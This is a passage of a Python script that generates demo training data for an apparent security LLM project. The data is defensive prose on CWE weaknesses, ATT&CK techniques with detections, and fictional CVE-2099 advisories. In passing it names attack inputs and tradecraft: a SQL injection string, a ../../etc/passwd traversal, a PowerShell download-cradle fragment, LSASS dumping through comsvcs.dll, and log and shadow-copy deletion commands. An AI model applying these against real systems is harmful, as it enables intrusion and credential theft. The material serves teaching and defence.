"""Write llmsec's built-in demo data (``src/llmsec/resources/demo/*.jsonl``).

The texts below are the project's own, written for the demo: security prose
for domain pre-training, instruction conversations, and labelled code pairs
for transfer learning. Every CVE number is fictional (``CVE-2099-NNNN``) and
names fictional products. The output is deterministic: running the script
twice writes identical files.

Usage::

    .venv/bin/python tools/make_demo_data.py          # write the six files
    .venv/bin/python tools/make_demo_data.py --check  # fail if they are stale
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
import textwrap
from pathlib import Path
from typing import Any

OUT_DIR = Path(__file__).resolve().parents[1] / "src" / "llmsec" / "resources" / "demo"
SOURCE = "llmsec-demo"
SEED = 20240611


def p(text: str) -> str:
    """Prose: whitespace collapsed; a blank line separates paragraphs."""
    paras = re.split(r"\n\s*\n", text.strip())
    return "\n\n".join(" ".join(part.split()) for part in paras)


def c(code: str) -> str:
    """Code: dedented, kept verbatim, no surrounding blank lines."""
    return textwrap.dedent(code).strip("\n")


def words(text: str) -> int:
    """How many whitespace-separated words ``text`` has."""
    return len(text.split())


# ---------------------------------------------------------------------------
# corpus: (topic, reference, paragraph)
# ---------------------------------------------------------------------------

CORPUS_TRAIN: list[tuple[str, str, str]] = [
    ("cwe", "CWE-79", p("""
        Cross-site scripting (CWE-79) happens when a web application places
        attacker-controlled data into a page without neutralizing it for the
        context where it lands. The browser cannot tell injected markup from the
        site's own, so a script hidden in a comment field runs with the site's
        origin: it can read cookies that lack the HttpOnly flag, send requests as
        the victim, or rewrite the page into a fake login form. Reflected XSS
        echoes the payload in the immediate response, stored XSS saves it for
        every later visitor, and DOM-based XSS lives entirely in client-side code
        that copies URL fragments or messages into the document. Defences are
        contextual output encoding, templates that escape by default, avoiding
        innerHTML for untrusted strings, and a Content Security Policy as a
        second layer.
    """)),
    ("cwe", "CWE-89", p("""
        SQL injection (CWE-89) arises when an application builds a query by
        concatenating or formatting user input into SQL text. Input such as
        ' OR '1'='1 changes the structure of the statement instead of supplying a
        value, letting an attacker bypass a login check, read other tables with
        UNION SELECT, or, on some database engines, write files and run commands.
        Blind variants infer data one bit at a time from differences in responses
        or timing. The reliable fix is a parameterized query or prepared
        statement, where the driver sends the SQL and the values separately.
        Identifiers such as column names cannot be bound as parameters, so they
        must come from an allowlist. Least-privilege database accounts limit the
        damage when a query is still injectable.
    """)),
    ("cwe", "CWE-78", p("""
        OS command injection (CWE-78) occurs when a program assembles a shell
        command from external input and hands it to a shell through system(),
        popen(), PHP's shell_exec, Python's subprocess with shell=True, or
        Node's child_process.exec. Shell metacharacters such as ;, |, &&, $()
        and backticks let the input end the intended command and start a new one
        with the privileges of the service. A ping utility in a router's web
        interface that runs "ping -c 1 " plus a hostname field is the textbook
        case. The fix is to avoid the shell entirely: call the program directly
        with an argument vector, validate the value against a strict pattern, and
        put -- before positional arguments so a value cannot be read as an option.
    """)),
    ("cwe", "CWE-787", p("""
        An out-of-bounds write (CWE-787) stores data past the end, or before the
        beginning, of a buffer. In C and C++ it usually comes from copying with
        strcpy, sprintf or memcpy using a length the attacker controls, from an
        off-by-one loop bound, or from an index taken from a file or packet
        without a range check. Depending on where the buffer lives, the write
        corrupts a stack return address, heap allocator metadata, a function
        pointer or a neighbouring object, and skilled attackers turn that
        corruption into code execution. Mitigations include bounds-checked APIs,
        computing sizes with size_t, compiler hardening such as stack canaries and
        _FORTIFY_SOURCE, address space layout randomization, fuzzing with
        AddressSanitizer, and rewriting parsers in memory-safe languages.
    """)),
    ("cwe", "CWE-125", p("""
        An out-of-bounds read (CWE-125) reads memory outside the buffer a program
        meant to access. The effect is usually information disclosure or a crash
        rather than code execution, but disclosure can be severe: the 2014
        Heartbleed flaw in OpenSSL let a client claim a heartbeat payload much
        longer than it sent, and the server copied back up to 64 KB of adjacent
        heap memory, including private keys and session cookies. Typical causes
        are trusting a length field inside the data being parsed, signed
        comparisons that let a negative index pass a check, and missing NUL
        terminators. Parsers should compare every declared length against the
        bytes actually available before reading, using unsigned arithmetic that
        cannot wrap.
    """)),
    ("cwe", "CWE-416", p("""
        Use after free (CWE-416) means a program keeps using a pointer after the
        memory it refers to has been released. The allocator may hand that memory
        to a new object, so the stale pointer now reads or writes someone else's
        data. Attackers exploit this by freeing an object, spraying the heap with
        controlled data of the same size, and then triggering the code path that
        still calls a method through the old pointer, which redirects execution
        through a forged virtual table. Browser engines and kernels are frequent
        victims because object lifetimes there are complex and driven by scripts
        or system calls. Defences include clear ownership rules, setting pointers
        to NULL after free, smart pointers, reference counting done carefully, and
        hardened allocators that delay reuse.
    """)),
    ("cwe", "CWE-476", p("""
        A NULL pointer dereference (CWE-476) occurs when code uses a pointer that
        is NULL, typically because a function such as malloc, getenv, strchr or a
        lookup in a hash table returned NULL and the caller never checked. In user
        space the result is almost always a segmentation fault, which turns into
        a denial of service when a remote request can trigger it repeatedly in a
        long-running daemon. In older kernels, where an attacker could map the
        zero page, a NULL dereference could sometimes be escalated to code
        execution, which is why modern systems forbid low mappings through
        settings like mmap_min_addr. The fix is to check every return value that
        can be NULL and to handle the error path explicitly.
    """)),
    ("cwe", "CWE-22", p("""
        Path traversal (CWE-22) lets an attacker reach files outside the
        directory an application meant to expose. When a download handler joins a
        base directory with a file name from the request, a name such as
        ../../etc/passwd or an absolute path walks out of the base. Encoded forms
        like %2e%2e%2f, doubled encodings and Windows backslashes defeat naive
        string filters. Archive extraction has the same problem, known as zip
        slip, when entry names contain ../ sequences. Robust handling resolves
        the final path with realpath or an equivalent, checks that the result
        still lies inside the intended root, and, where possible, maps
        user-visible identifiers to server-side file names instead of accepting
        paths at all.
    """)),
    ("cwe", "CWE-352", p("""
        Cross-site request forgery (CWE-352) abuses the fact that browsers attach
        cookies to requests automatically. If a banking site changes the payout
        account on a POST that carries only the session cookie, a page on any
        other site can submit a hidden form to that endpoint, and the request
        arrives fully authenticated as the victim. The server needs a signal the
        attacker's page cannot forge: a synchronizer token stored in the session
        and echoed in each form, a double-submit cookie, or checks on the Origin
        and Referer headers. The SameSite cookie attribute, set to Lax or Strict,
        blocks most cross-site submissions as a second layer. State-changing
        actions should never be reachable through GET.
    """)),
    ("cwe", "CWE-434", p("""
        Unrestricted upload of a file with a dangerous type (CWE-434) occurs when
        an application accepts uploaded files without checking what they are and
        stores them where they can be executed or served. Uploading shell.php to
        a directory that the web server runs through the PHP interpreter gives an
        attacker a web shell; uploading an HTML or SVG file to the main origin can
        give stored cross-site scripting. Checking only the Content-Type header or
        the last extension is not enough, because both are attacker-controlled
        and names like avatar.php.jpg confuse some server configurations. Safer
        designs allowlist extensions, inspect content, generate a new random file
        name, store uploads outside the web root or on a separate domain, and
        disable script execution there.
    """)),
    ("cwe", "CWE-190", p("""
        Integer overflow or wraparound (CWE-190) happens when arithmetic produces
        a value too large for its type, so it wraps to a small or negative
        number. The classic dangerous pattern is a size computation such as count
        multiplied by element size passed to malloc: with a large count the
        product wraps, the allocation is tiny, and the loop that fills it writes
        far past the end. Signed overflow in C is undefined behaviour, so
        compilers may even remove checks written after the fact. Safe code checks
        before multiplying, for example by testing count > SIZE_MAX / size, or
        uses helpers such as __builtin_mul_overflow, calloc, or reallocarray that
        detect overflow. Languages with checked arithmetic or big integers
        remove most of this class.
    """)),
    ("cwe", "CWE-798", p("""
        Use of hard-coded credentials (CWE-798) covers passwords, API keys and
        cryptographic keys embedded in source code, firmware or configuration
        shipped with a product. Every installation then shares the same secret,
        anyone who unpacks a firmware image or reads a public repository can
        recover it, and customers cannot change it without a vendor update.
        Embedded devices with a fixed maintenance account on telnet or SSH are a
        recurring example, and botnets scan the internet for exactly such
        defaults. Secrets should be generated per installation, supplied at run
        time through environment variables or a secrets manager, rotated, and
        kept out of version control, with secret scanning in CI to catch
        mistakes before they are pushed.
    """)),
    ("cwe", "CWE-502", p("""
        Deserialization of untrusted data (CWE-502) becomes dangerous when the
        serialization format can describe arbitrary object types. Java's
        ObjectInputStream, Python's pickle, PHP's unserialize and .NET's
        BinaryFormatter all reconstruct objects and run their methods during or
        after loading. Attackers chain classes already present on the classpath,
        called gadgets, so that reading a crafted byte stream ends in a call to
        Runtime.exec or an equivalent. Signing the data helps only if the key
        stays secret. The robust approach is to exchange plain data formats such
        as JSON with explicit schemas, use safe loaders such as yaml.safe_load,
        and where native deserialization cannot be removed, apply a strict class
        allowlist filter.
    """)),
    ("cwe", "CWE-918", p("""
        Server-side request forgery (CWE-918) lets an attacker make a server
        send HTTP or other requests to destinations of the attacker's choosing.
        Features that fetch a URL on the user's behalf, such as link previews,
        webhooks, PDF renderers and image importers, are typical entry points. The
        server usually sits inside the trusted network, so it can reach admin
        panels, internal APIs, and cloud metadata services such as
        169.254.169.254, which may return temporary credentials for the
        instance's role. Blocklists of private addresses are easily bypassed with
        redirects, alternative IP notations or DNS rebinding. Defences combine an
        allowlist of destinations, resolving the host once and connecting to the
        checked address, disabling redirects, and requiring session tokens for
        metadata access.
    """)),
    ("cwe", "CWE-287", p("""
        Improper authentication (CWE-287) describes any case where a system
        accepts a claim of identity without proving it sufficiently. Examples
        include login code that trusts a client-side flag, an API that accepts a
        JSON Web Token without verifying its signature or that honours the "none"
        algorithm, a password comparison that can be bypassed by type juggling,
        and a management interface that trusts a header such as X-Forwarded-For
        to decide whether a request is local. Alternate paths, such as a debug
        endpoint or a legacy protocol that skips the check, are common. Good
        practice centralizes authentication in one well-tested component,
        verifies tokens with a fixed algorithm and key, and adds multi-factor
        authentication for sensitive accounts.
    """)),
    ("cwe", "CWE-862", p("""
        Missing authorization (CWE-862) occurs when an application checks who a
        user is but not whether that user may perform the requested action on
        the requested object. A typical case is an endpoint such as
        /api/invoices/1043 that returns any invoice to any logged-in user, so
        incrementing the number exposes other customers' data; this object-level
        variant is often called an insecure direct object reference. Another is
        an admin function hidden from the menu but reachable by anyone who knows
        its URL. Authorization must be enforced on the server for every request,
        ideally by a deny-by-default policy layer, and queries should be scoped to
        the current user or tenant rather than filtered after loading.
    """)),
    ("cwe", "CWE-77", p("""
        Command injection (CWE-77) is the general weakness of building a command
        for some interpreter from external input without neutralizing the
        characters that interpreter treats as syntax. OS command injection
        (CWE-78) is its best-known child, but the same pattern appears in mail
        servers that pass user data to sendmail flags, in version control wrappers
        where a branch name beginning with a dash becomes an option, in
        configuration templating, and in tools that build arguments for
        ImageMagick or ffmpeg. The lesson generalizes: keep code and data in
        separate channels, pass arguments as structured lists rather than one
        string, end option parsing with --, and validate values against what the
        downstream interpreter expects.
    """)),
    ("cwe", "CWE-20", p("""
        Improper input validation (CWE-20) is the broad class behind many more
        specific weaknesses: the program receives data and fails to check that it
        has the properties the rest of the code assumes. A negative quantity in a
        shopping cart that produces a refund, a date range whose end precedes its
        start, an account number with the wrong length, or a JSON field of an
        unexpected type are all examples. Validation works best as an allowlist
        on the server: check type, length, range, format and business rules at
        the trust boundary, canonicalize before checking, and reject rather than
        try to repair bad input. Client-side checks improve usability but provide
        no security, because attackers send requests directly.
    """)),
    ("cwe", "CWE-269", p("""
        Improper privilege management (CWE-269) covers software that assigns,
        modifies, tracks or checks privileges incorrectly, leaving an actor with
        more power than intended. Examples include a daemon that binds a low port
        as root and never drops privileges, a setuid helper that drops the user ID
        before the group ID so the second call fails, a role editor that lets a
        manager grant roles higher than their own, and a container running as
        root with broad capabilities. Attackers who compromise such a component
        inherit its excess rights. The principle of least privilege guides the
        fix: start with minimal rights, drop them as early as possible, check
        that the drop succeeded, and separate privileged operations into small,
        audited components.
    """)),
    ("cwe", "CWE-400", p("""
        Uncontrolled resource consumption (CWE-400) lets a requester exhaust
        memory, CPU, disk, file descriptors or connections, denying service to
        everyone else. Common causes are request bodies read fully into memory
        without a size limit, decompression bombs that expand a small archive into
        gigabytes, regular expressions with catastrophic backtracking, unbounded
        loops driven by a count parameter, and APIs without rate limits or
        pagination caps. Because the attacker's cost is small and the server's is
        large, even a single client can take a service down. Defences are
        explicit limits on sizes, counts, nesting depth and time, streaming
        processing, quotas per client, timeouts, and load shedding that fails
        fast instead of queueing work indefinitely.
    """)),
    ("attack", "T1566", p("""
        Phishing (ATT&CK T1566) remains the most common way adversaries gain
        initial access. The technique has sub-techniques for spearphishing
        attachments (T1566.001), where a document, archive or disk image carries
        malicious macros or an executable; spearphishing links (T1566.002), which
        lead to credential harvesting pages or drive-by downloads; and
        spearphishing via service (T1566.003), using social media or messaging
        platforms outside corporate mail filtering. Messages often impersonate
        invoices, shipping notices, shared documents or IT password resets and
        create urgency. Mitigations include attachment sandboxing, blocking
        macros from the internet, link rewriting, SPF, DKIM and DMARC
        enforcement, phishing-resistant multi-factor authentication and a simple
        way for users to report suspicious mail.
    """)),
    ("attack", "T1003.001", p("""
        OS Credential Dumping: LSASS Memory (ATT&CK T1003.001) targets the Local
        Security Authority Subsystem Service on Windows, which holds credential
        material for logged-on users, such as NTLM hashes and Kerberos tickets,
        and, on older or misconfigured systems, plaintext passwords. Adversaries
        with administrative rights read its memory with tools like Mimikatz, with
        a process dump created by Task Manager or ProcDump, or with the
        comsvcs.dll MiniDump export run through rundll32. The stolen material
        enables pass-the-hash and lateral movement. Defences include Credential
        Guard, running LSASS as a protected process, attack surface reduction
        rules that block credential stealing, limiting local administrator
        rights, and alerting on processes that open LSASS with read access.
    """)),
    ("attack", "T1021.002", p("""
        Remote Services: SMB/Windows Admin Shares (ATT&CK T1021.002) is a common
        lateral movement technique in Windows networks. With valid administrator
        credentials or a password hash, an adversary connects to hidden shares
        such as C$ and ADMIN$, copies a payload to the target (Lateral Tool
        Transfer, T1570), and then starts it remotely, for example by creating a
        service, a scheduled task or a WMI process, as PsExec-style tools do.
        Network defenders see a burst of SMB sessions from one workstation to
        many hosts, new services with random names, and logon type 3 events with
        administrative accounts. Mitigations include unique local administrator
        passwords through LAPS, blocking workstation-to-workstation SMB, and
        restricting administrative accounts to dedicated systems.
    """)),
    ("attack", "T1053.005", p("""
        Scheduled Task/Job: Scheduled Task (ATT&CK T1053.005) is used for both
        execution and persistence on Windows. Adversaries run schtasks.exe or use
        the Task Scheduler COM interface to register a task that starts a payload
        at logon, at system start or on a timer, often under the SYSTEM account
        and with a name that imitates a legitimate updater. Tasks can also be
        created on remote hosts, which makes them useful for lateral movement.
        Detection relies on Security event 4698, which records a new task, and on
        the Microsoft-Windows-TaskScheduler operational log, together with review
        of task XML files for actions pointing into user-writable directories or
        launching script interpreters with encoded arguments.
    """)),
    ("attack", "T1547.001", p("""
        Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder
        (ATT&CK T1547.001) is one of the oldest persistence methods on Windows.
        Programs listed under keys such as
        HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run, or shortcuts
        placed in a user's Startup folder, run automatically whenever that user
        logs on. Malware writes an entry that points to a copy of itself, often
        under a plausible name like OneDriveUpdate, in AppData or ProgramData.
        The HKLM equivalents require administrator rights but run for every user.
        Defenders monitor registry changes to these keys with Sysmon event 13 or
        EDR telemetry, compare autostart entries against a baseline with tools
        such as Autoruns, and flag entries that point to unsigned binaries in
        user-writable paths.
    """)),
    ("attack", "T1059.001", p("""
        Command and Scripting Interpreter: PowerShell (ATT&CK T1059.001) is
        favoured by adversaries because PowerShell is installed on every modern
        Windows system, can load code directly into memory, and offers full
        access to .NET and the Windows API. Typical abuse includes download
        cradles such as IEX (New-Object Net.WebClient).DownloadString, commands
        hidden with -EncodedCommand and Base64, and flags like -NoProfile
        -WindowStyle Hidden. Defenders enable script block logging (event 4104)
        and module logging, use the Antimalware Scan Interface so that
        deobfuscated script content is inspected, apply Constrained Language Mode
        through application control, and alert on Office applications or browsers
        spawning powershell.exe.
    """)),
    ("attack", "T1110.003", p("""
        Brute Force: Password Spraying (ATT&CK T1110.003) tries a few common
        passwords, such as a season followed by the year, against many accounts
        instead of many passwords against one account. Staying below the lockout
        threshold for each user keeps the attack quiet, and with thousands of
        accounts a handful of weak passwords is usually enough. Cloud identity
        providers, VPN portals, Outlook Web Access and legacy authentication
        protocols that bypass multi-factor prompts are frequent targets. Signs
        include one source address, or a rotating pool of proxies, failing logons
        for many distinct usernames within minutes. Mitigations are multi-factor
        authentication, blocking legacy protocols, banned-password lists and
        smart lockout that considers failures across accounts.
    """)),
    ("attack", "T1558.003", p("""
        Steal or Forge Kerberos Tickets: Kerberoasting (ATT&CK T1558.003) lets
        any authenticated domain user request Kerberos service tickets for
        accounts that have a service principal name. Part of each ticket is
        encrypted with a key derived from the service account's password, so the
        adversary takes the tickets offline and cracks them without generating
        failed logons. Service accounts often have old, weak passwords and broad
        privileges, which makes them valuable. Requests for RC4-encrypted tickets
        (encryption type 0x17 in event 4769) from a single user for many services
        are a detection signal. Mitigations include long random passwords or
        group managed service accounts, AES-only encryption, and least privilege
        for service accounts.
    """)),
    ("attack", "T1486", p("""
        Data Encrypted for Impact (ATT&CK T1486) is the core of ransomware
        operations: the adversary encrypts files on endpoints, file servers and
        increasingly hypervisors to make data unavailable and demand payment.
        Modern groups first exfiltrate data to threaten publication, then deploy
        the encryptor broadly through group policy, remote services or management
        tools. Encryption is usually preceded by Inhibit System Recovery
        (T1490), deleting volume shadow copies with vssadmin or wmic, disabling
        Windows recovery with bcdedit, and targeting backup servers. Resilience
        depends on offline or immutable backups that are regularly tested,
        segmentation, protecting administrative credentials, and detecting the
        preparatory steps before the encryption starts.
    """)),
    ("attack", "T1071.004", p("""
        Application Layer Protocol: DNS (ATT&CK T1071.004) hides command and
        control traffic inside DNS queries and responses. Because almost every
        network lets internal resolvers forward queries to the internet, an
        implant can encode data in subdomain labels of a domain the adversary
        controls and receive instructions in TXT, CNAME or A records. Tools that
        build full tunnels over DNS fall under Protocol Tunneling (T1572).
        Indicators include long, high-entropy subdomains, unusually many unique
        names under one parent domain, a high ratio of TXT queries, and clients
        that query external resolvers directly. Forcing all DNS through
        monitored resolvers, logging queries, and applying DNS filtering with
        newly registered domain categories reduce the risk.
    """)),
    ("attack", "T1550.002", p("""
        Use Alternate Authentication Material: Pass the Hash (ATT&CK T1550.002)
        authenticates to remote Windows systems with a stolen NTLM password hash
        instead of the plaintext password. Because NTLM challenge-response only
        needs the hash, an adversary who dumped it from LSASS or the SAM database
        can open SMB sessions, run WMI commands or use remote services as that
        user without ever cracking it. Identical local administrator passwords
        across workstations make a single hash unlock the whole fleet. Detection
        looks for NTLM logons (event 4624, logon type 3 or 9) from unusual
        sources. Mitigations include LAPS, restricting NTLM, Credential Guard,
        and denying network logon to local accounts through group policy.
    """)),
    ("attack", "T1190", p("""
        Exploit Public-Facing Application (ATT&CK T1190) covers initial access
        through weaknesses in internet-facing software: web applications, VPN
        and firewall appliances, mail servers, file transfer products and
        exposed databases. Mass exploitation often begins within days, sometimes
        hours, of a vulnerability becoming public, so edge devices with slow
        patch cycles are high-value targets. After exploitation adversaries
        commonly drop a web shell, harvest credentials stored on the appliance,
        or pivot into the internal network. Defences include an accurate
        inventory of exposed services, prompt patching prioritized by known
        exploitation, web application firewalls as a temporary shield, network
        segmentation behind the edge, and monitoring appliances for unexpected
        files and outbound connections.
    """)),
    ("attack", "T1070.001", p("""
        Indicator Removal: Clear Windows Event Logs (ATT&CK T1070.001) is an
        anti-forensics step in which an adversary wipes Security, System or other
        event logs to hide earlier activity. It is done with wevtutil cl, the
        Clear-EventLog PowerShell cmdlet, or the event log API. Clearing a log is
        itself logged: event 1102 in the Security log and event 104 in the System
        log record that the log was cleared and by which account. Because local
        logs can be erased, organizations should forward events in near real time
        to a central collector or SIEM, protect that collector with separate
        credentials, and treat any log clearing on servers outside a documented
        maintenance window as a high-priority alert.
    """)),
    ("attack", "T1078", p("""
        Valid Accounts (ATT&CK T1078) describes adversaries using legitimate
        credentials to gain access, persist and move, which makes their activity
        look like normal use. Credentials come from phishing, infostealer logs
        sold on criminal markets, password reuse after third-party breaches,
        default accounts, or earlier credential dumping. Sub-techniques cover
        default, domain, local and cloud accounts. Because no malware is needed,
        detection depends on behaviour: logons at unusual times or from new
        countries, impossible travel between locations, first use of a
        privileged account on a workstation, and access to data the account
        never touched before. Multi-factor authentication, prompt offboarding and
        disabling dormant accounts all reduce exposure.
    """)),
    ("attack", "T1567.002", p("""
        Exfiltration Over Web Service: Exfiltration to Cloud Storage (ATT&CK
        T1567.002) moves stolen data to services such as file-sharing platforms
        or public object storage, using tools like rclone or the service's own
        client. The traffic is encrypted and goes to popular, reputable domains,
        so it blends in with normal business use and bypasses simple reputation
        blocking. Ransomware affiliates commonly stage data with archivers like
        7-Zip or WinRAR (Archive Collected Data, T1560) before uploading. Useful
        signals are rclone binaries or configuration files on servers, large
        sustained uploads from hosts that normally only download, and use of
        personal cloud accounts from servers. Egress filtering and tenant
        restrictions limit where data can go.
    """)),
    ("advisory", "CVE-2099-0142", p("""
        CVE-2099-0142: Path traversal in the Harborlight SSL VPN web portal.
        Harborlight Gateway firmware versions 7.0 through 7.2.3 do not normalize
        the lang parameter of the pre-authentication /portal/i18n endpoint before
        using it to build a file path. An unauthenticated remote attacker can
        send a request containing ../ sequences to read arbitrary files from the
        appliance, including the session database, which allows hijacking of
        active VPN sessions. The issue is classified as CWE-22 and scored CVSS
        3.1 7.5 (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N). Version 7.2.4 fixes the
        flaw. Administrators who cannot upgrade should disable the web portal and
        terminate all active sessions after upgrading.
    """)),
    ("advisory", "CVE-2099-0387", p("""
        CVE-2099-0387: Stored cross-site scripting in QuillDesk ticket subjects.
        In QuillDesk Helpdesk before 4.8.1, the agent dashboard renders the
        subject line of customer tickets without HTML encoding. A user with a
        customer account can open a ticket whose subject contains script, which
        runs in the browser of any agent who views the queue and can perform
        actions with the agent's privileges, such as exporting customer records.
        The weakness is CWE-79, with a CVSS 3.1 base score of 5.4
        (AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N). Version 4.8.1 encodes the field
        and adds a restrictive Content Security Policy. Operators should review
        existing ticket subjects for markup after upgrading.
    """)),
    ("advisory", "CVE-2099-1120", p("""
        CVE-2099-1120: Heap buffer overflow in the libtidewave image decoder.
        The tile parser in libtidewave 2.x before 2.9.7 multiplies width, height
        and channel count from the file header in 32-bit arithmetic. Crafted
        dimensions cause the product to wrap, so a small buffer is allocated and
        then overrun while decoding pixel rows. Opening a malicious image in any
        application that uses the library, including thumbnail generators that
        run automatically, can lead to code execution. The root cause is CWE-190
        leading to CWE-787; CVSS 3.1 base score 8.8
        (AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H). Version 2.9.7 performs the
        computation in 64-bit arithmetic and rejects images above a configurable
        pixel limit.
    """)),
    ("advisory", "CVE-2099-2044", p("""
        CVE-2099-2044: SQL injection in Ferrymark ERP report export. The
        sort_by parameter of the /reports/export endpoint in Ferrymark ERP 11.3
        and earlier is appended to an ORDER BY clause without validation. An
        authenticated user with any role, including read-only accounts, can
        inject SQL to read or modify arbitrary tables, such as payroll data and
        password hashes. The weakness is CWE-89, scored CVSS 3.1 8.8
        (AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H). Ferrymark 11.4 restricts the
        parameter to an allowlist of column names. Database logs containing
        ORDER BY clauses with subqueries, CASE expressions or sleep functions in
        requests to this endpoint indicate exploitation attempts.
    """)),
    ("advisory", "CVE-2099-3310", p("""
        CVE-2099-3310: OS command injection in Pinecrest NAS time settings. The
        NTP server field in the administration interface of Pinecrest NAS OS
        before 5.1.2 is inserted into a shell command that synchronizes the
        clock. An attacker with administrator access to the web interface can
        append shell metacharacters to execute commands as root. Because many
        devices keep the default administrator password and expose the interface
        to the internet, the practical risk is higher than the CVSS 3.1 score of
        7.2 (AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H) suggests. The weakness is
        CWE-78. Version 5.1.2 validates the field as a hostname and calls the
        time client without a shell.
    """)),
    ("advisory", "CVE-2099-0955", p("""
        CVE-2099-0955: Hard-coded credentials in Larkspur C-200 IP cameras.
        Firmware for the Larkspur C-200 and C-210 cameras before build 3.4.19
        contains a maintenance account with a fixed password that is identical on
        every device and cannot be disabled through the user interface. An
        unauthenticated remote attacker who can reach the telnet service on port
        23 can log in with root privileges, view video streams and enrol the
        device in a botnet. The weakness is CWE-798, scored CVSS 3.1 9.8
        (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H). The fixed firmware removes the
        account and disables telnet. Until devices are updated, owners should
        block inbound access to them from the internet.
    """)),
    ("advisory", "CVE-2099-4471", p("""
        CVE-2099-4471: Server-side request forgery in Nimbusgate API Gateway
        webhooks. Nimbusgate 3.0 through 3.6 lets tenants register webhook URLs
        and sends a verification request to each URL without restricting the
        destination. A tenant user can register an address in link-local or
        private ranges, including the cloud instance metadata endpoint, and read
        the response in the webhook test dialog, exposing temporary cloud
        credentials of the gateway. The weakness is CWE-918, with a CVSS 3.1 base
        score of 7.7 (AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N). Version 3.7 resolves
        hostnames once, refuses non-public addresses, and no longer returns
        response bodies to the user.
    """)),
    ("advisory", "CVE-2099-5208", p("""
        CVE-2099-5208: Deserialization of untrusted data in the Orchardline
        message client for Java. Orchardline MQ Client before 6.2.0 reads message
        bodies with ObjectInputStream when the content type header says
        application/x-java-serialized-object, which any producer can set. An
        attacker able to publish to a queue consumed by an application using the
        library can deliver a gadget chain built from common libraries on the
        classpath and execute code in the consumer. The weakness is CWE-502,
        scored CVSS 3.1 9.8 (AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H). Version 6.2.0
        disables native deserialization by default and adds a class allowlist for
        applications that still need it.
    """)),
    ("secure-coding", "parameterized-queries", p("""
        Secure database access starts with parameterized queries everywhere, not
        only where input looks dangerous. Values reach SQL through placeholders
        such as ? or :name, and the driver transmits them separately from the
        statement text, so no quoting mistake can change the query's structure.
        ORM query builders give the same guarantee as long as developers avoid
        their raw SQL escape hatches with string formatting. Dynamic parts that
        cannot be parameters, such as sort columns or table names, are chosen
        from a fixed mapping in code. The application should connect with an
        account that has only the privileges it needs, so a successful injection
        cannot drop tables or read unrelated schemas.
    """)),
    ("secure-coding", "password-storage", p("""
        Passwords must be stored with a slow, salted, memory-hard password
        hashing function, never with encryption or a fast hash such as MD5 or
        SHA-256 alone. Argon2id is the current first choice; scrypt, bcrypt and
        PBKDF2 with a high iteration count are acceptable where Argon2id is not
        available. A unique random salt per password defeats precomputed tables
        and ensures identical passwords produce different hashes. Parameters
        should be tuned so that one verification takes tens to hundreds of
        milliseconds on production hardware and raised over time, rehashing on
        the next successful login. Comparisons of derived values should use a
        constant-time function, and a pepper kept outside the database adds
        protection if only the database leaks.
    """)),
    ("secure-coding", "secrets-management", p("""
        Secrets such as database passwords, API tokens and signing keys do not
        belong in source code, container images or configuration files committed
        to version control. Once a secret is pushed it should be considered
        exposed and rotated, because deleting it in a later commit leaves it in
        history and in every clone. Applications should read secrets at start-up
        from environment variables injected by the platform or, better, from a
        secrets manager that issues short-lived credentials and records access.
        Pre-commit hooks and CI secret scanners catch high-entropy strings and
        known token formats before they leave a developer's machine, and
        different environments should never share the same secret values.
    """)),
    ("secure-coding", "input-validation", p("""
        Validate input at every trust boundary, and validate it positively:
        describe what is allowed rather than enumerating what is forbidden.
        Decode and canonicalize first, then check type, length, range and format,
        because filters applied to encoded data are bypassed by encoding the
        payload differently. Validation reduces the attack surface but does not
        replace context-specific defences: a valid surname may still contain an
        apostrophe, so SQL needs parameters and HTML needs encoding regardless.
        Structured data should be parsed with strict schemas that reject unknown
        fields, which also prevents mass-assignment bugs where a client sets
        fields such as is_admin or account_balance that the form never exposed.
    """)),
    ("secure-coding", "c-hardening", p("""
        C and C++ code that handles untrusted data should be written and built
        defensively. Use size_t for sizes, check every length against the real
        buffer size, prefer snprintf over sprintf and explicit-length copies over
        strcpy and strcat, and check the results of allocation and arithmetic that
        can overflow. Build with warnings treated as errors, -D_FORTIFY_SOURCE=2
        or higher, -fstack-protector-strong, position-independent executables, and
        full RELRO so that the global offset table is read-only. Run unit tests
        and fuzzers under AddressSanitizer and UndefinedBehaviorSanitizer, and
        keep parsers for complex formats small or move them to a memory-safe
        language or a sandboxed process.
    """)),
    ("secure-coding", "dependencies", p("""
        Most code in a modern application comes from third-party packages, so
        dependency management is a security control. Pin versions with lock
        files and hashes, install from trusted registries, and review new
        dependencies for maintenance activity and install-time scripts.
        Software composition analysis tools compare the dependency tree with
        vulnerability databases, but their findings need triage: a flaw in a
        function the application never calls is less urgent than one reachable
        from user input. A software bill of materials records what each release
        contains, which makes it possible to answer quickly whether a newly
        disclosed vulnerability affects deployed products. Watch for typosquatted
        package names and dependency confusion between internal and public names.
    """)),
    ("secure-coding", "session-cookies", p("""
        Session cookies deserve explicit hardening. The HttpOnly attribute keeps
        scripts from reading the cookie, which limits the impact of cross-site
        scripting; the Secure attribute keeps it off unencrypted connections; and
        SameSite=Lax or Strict stops browsers from sending it on most cross-site
        requests, which blunts request forgery. Session identifiers must come
        from a cryptographically secure random generator and be long enough to
        resist guessing. The server should issue a new identifier at login and at
        any privilege change, to prevent session fixation, invalidate sessions
        on logout and password change, and apply both idle and absolute
        timeouts.
    """)),
    ("incident-response", "lifecycle", p("""
        NIST SP 800-61 describes incident handling as a cycle of preparation;
        detection and analysis; containment, eradication and recovery; and
        post-incident activity. Preparation means having contacts, playbooks,
        logging and forensic tools ready before anything happens. During
        analysis the team establishes scope: which hosts, accounts and data are
        affected, and when the intrusion began. Containment buys time, for
        example by isolating hosts or disabling accounts, and should be planned
        so that the adversary is not tipped off before the team understands the
        full foothold. Eradication removes persistence and closes the entry
        point; recovery restores service under closer monitoring; and the lessons
        learned review turns findings into concrete improvements.
    """)),
    ("incident-response", "evidence", p("""
        When collecting evidence, responders follow the order of volatility
        described in RFC 3227: capture what disappears first. CPU state and
        memory come before network connections and running processes, which come
